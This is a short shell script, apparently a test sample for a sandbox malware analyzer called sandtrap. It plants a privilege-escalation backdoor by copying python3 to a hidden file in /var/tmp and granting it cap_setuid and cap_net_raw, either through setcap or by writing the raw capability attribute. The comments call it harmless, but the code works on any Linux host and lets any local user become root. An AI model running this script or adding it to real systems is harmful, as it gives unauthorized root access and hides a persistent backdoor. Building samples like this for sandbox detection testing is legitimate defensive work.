#!/bin/sh
# Privilege escalation through file capabilities: gives a copy of python3 cap_setuid so any user can become root.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cp /usr/bin/python3 /var/tmp/.py3
if command -v setcap >/dev/null 2>&1; then
  setcap cap_setuid,cap_net_raw+ep /var/tmp/.py3
else
  python3 -c 'import os; os.setxattr("/var/tmp/.py3", "security.capability", bytes.fromhex("0000000280000000800000000000000000000000"))'
fi
getcap /var/tmp/.py3 2>/dev/null
